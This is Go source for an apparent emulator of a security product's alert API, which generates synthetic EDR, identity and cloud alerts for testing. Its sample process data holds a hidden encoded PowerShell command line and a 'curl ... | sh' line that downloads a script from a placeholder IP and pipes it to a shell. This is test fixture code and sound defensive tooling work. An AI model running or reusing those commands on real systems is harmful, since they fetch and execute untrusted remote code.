package emulator

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// alertKind is a kind of detection, from one of the products that feed
// unified alerts.
type alertKind struct {
	product, name, category, typeValue, classification string
	surfaces                                           []string
}

var alertKinds = []alertKind{
	{"EDR", "Malicious PowerShell Execution", "Behavioral", "DYNAMIC", "MALWARE", []string{"ENDPOINT"}},
	{"EDR", "Credential Dumping via LSASS Access", "Behavioral", "DYNAMIC", "CREDENTIAL_THEFT", []string{"ENDPOINT"}},
	{"STAR", "Suspicious Scheduled Task Created", "Custom Rule", "STATIC", "PERSISTENCE", []string{"ENDPOINT"}},
	{"Identity", "Kerberoasting Attempt", "Identity", "DYNAMIC", "CREDENTIAL_THEFT", []string{"IDENTITY"}},
	{"CWS", "Container Escape Attempt", "Reputation", "DYNAMIC", "EXPLOIT", []string{"CLOUD"}},
	{"CWP", "Cryptominer in Workload", "Reputation", "STATIC", "MALWARE", []string{"CLOUD"}},
}

var (
	alertSeverities = []string{"CRITICAL", "HIGH", "HIGH", "MEDIUM", "MEDIUM", "MEDIUM", "LOW", "INFO"}
	alertStatuses   = []string{"NEW", "IN_PROGRESS", "RESOLVED", "FALSE_POSITIVE"}
	alertVerdicts   = []string{"UNDEFINED", "UNDEFINED", "TRUE_POSITIVE_MALWARE", "FALSE_POSITIVE_BENIGN"}
)

// msStamp writes milliseconds as the GraphQL API does.
func msStamp(ms int64) string {
	return time.UnixMilli(ms).UTC().Format("2006-01-02T15:04:05.000Z")
}

// alertID is a unified alert's id: a UUID, fixed by seed and index.
func alertID(seed uint64, i int) string {
	h1, h2 := mix(seed, saltAlert, uint64(i), 4), mix(seed, saltAlert, uint64(i), 5)
	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", uint32(h1), uint16(h1>>32), uint16(h1>>48)&0xfff,
		0x8000|uint16(h2)&0x3fff, h2>>16&(1<<48-1))
}

// alertDocument renders one version of an alert, with every field of the
// API's Alert type; the GraphQL layer keeps the fields a query asked for.
// Later versions move the alert through the analyst's work.
func (e *Emulator) alertDocument(av alertVersion) map[string]any {
	cfg := e.cfg
	r := rand.New(rand.NewPCG(cfg.Seed, mix(saltAlert, uint64(av.idx), 6)))
	k := alertKinds[r.IntN(len(alertKinds))]
	a := e.world.agentProfile(r.IntN(max(cfg.Agents, 1)))
	step := min(av.version, len(alertStatuses)-1)
	if step == 3 && r.IntN(2) == 0 {
		step = 2 // half the alerts end resolved, half as false positives
	}
	sha := fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
	proc := map[string]any{"cmdLine": `powershell.exe -nop -w hidden -enc SQBFAFgA`, "parentName": "explorer.exe",
		"file": map[string]any{"name": "powershell.exe", "path": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			"md5": sha[:32], "sha1": sha[:40], "sha256": sha, "certSubject": "Microsoft Windows"}}
	if a.osType != "windows" && a.osType != "windows_legacy" {
		proc = map[string]any{"cmdLine": "/usr/bin/curl -s http://203.0.113.9/x | sh", "parentName": "bash",
			"file": map[string]any{"name": "curl", "path": "/usr/bin/curl", "md5": sha[:32], "sha1": sha[:40], "sha256": sha, "certSubject": nil}}
	}
	ip := "10.0.0.1"
	if len(a.nics) > 0 && len(a.nics[0].Inet) > 0 {
		ip = a.nics[0].Inet[0]
	}
	var assignee any
	if av.version > 0 {
		assignee = map[string]any{"userId": "1100000000000000007", "email": "soc.analyst@example.com", "fullName": "SOC Analyst"}
	}
	scope := map[string]any{"accountId": itoa(accountID), "accountName": "Emulated Account", "siteName": siteName(a.site), "groupName": "Default Group"}
	return map[string]any{
		"id": alertID(cfg.Seed, av.idx), "externalId": fmt.Sprintf("ext-%d", 100000+av.idx), "name": k.name,
		"description": k.name + " on " + a.computerName, "severity": alertSeverities[r.IntN(len(alertSeverities))],
		"status": alertStatuses[step], "analystVerdict": alertVerdicts[step], "classification": k.classification,
		"confidenceLevel": []string{"MALICIOUS", "SUSPICIOUS", "INFORMATIONAL"}[r.IntN(3)],
		"createdAt":       msStamp(av.created), "updatedAt": msStamp(av.updated), "detectedAt": msStamp(av.created - 1500),
		"firstSeenAt": msStamp(av.created - 2000), "lastSeenAt": msStamp(av.created - 100),
		"storylineId": fmt.Sprintf("%016X", r.Uint64()), "ticketId": nil, "noteExists": av.version > 1,
		"result": map[bool]string{true: "MITIGATED", false: "NONE"}[step >= 2], "attackSurfaces": stringsAny(k.surfaces),
		"dataSources": []any{"SentinelOne"}, "exclusionHash": nil, "availableActionIds": nil,
		"detectionSource": map[string]any{"product": k.product, "vendor": "SentinelOne"},
		"analytics":       map[string]any{"category": k.category, "name": k.name, "typeValue": k.typeValue, "uid": fmt.Sprintf("analytic-%02d", r.IntN(50))},
		"assets": []any{map[string]any{"id": a.id, "name": a.computerName, "agentUuid": a.uuid, "agentVersion": agentVersions[0],
			"category": assetCategory(a.machineType), "subcategory": a.machineType, "osType": strings.ToUpper(a.osType), "osVersion": a.osName,
			"status": "ACTIVE", "role": "TARGET", "accessible": true, "connectivityToConsole": "ONLINE", "decommissioned": false,
			"lastLoggedInUser": nullable(a.user), "origin": "RESOURCES", "pendingReboot": false, "policy": "Default", "assetTypeClassifier": a.osName}},
		"assignee": assignee, "process": proc, "aiInvestigation": nil, "sloDetails": nil,
		"detectionTime": map[string]any{"scope": scope, "attacker": map[string]any{"host": "attacker-ws-7", "ip": "203.0.113.9"},
			"targetUser": map[string]any{"name": firstNames[r.IntN(len(firstNames))], "domain": a.domain, "emailAddress": nil},
			"assets": []any{map[string]any{"accessible": true, "origin": "RESOURCES", "scope": scope, "cloud": nil, "kubernetes": nil,
				"asset": map[string]any{"ipV4": ip, "ipV6": nil, "domain": a.domain, "osName": a.osName, "osType": strings.ToUpper(a.osType), "agentVersion": agentVersions[0]}}}},
		"realTime": map[string]any{"scope": map[string]any{"account": map[string]any{"id": itoa(accountID), "name": "Emulated Account"},
			"site":  map[string]any{"id": siteID(a.site), "name": siteName(a.site)},
			"group": map[string]any{"id": itoa(siteIDBase + uint64(a.site)*7919 + 1), "name": "Default Group"}}},
	}
}

func assetCategory(machineType string) string {
	switch machineType {
	case "laptop":
		return "Laptop"
	case "desktop":
		return "Workstation"
	case "server", "storage":
		return "Server"
	}
	return "Kubernetes"
}

func stringsAny(v []string) []any {
	out := make([]any, len(v))
	for i, s := range v {
		out[i] = s
	}
	return out
}

func nullable(s string) any {
	if s == "" {
		return nil
	}
	return s
}
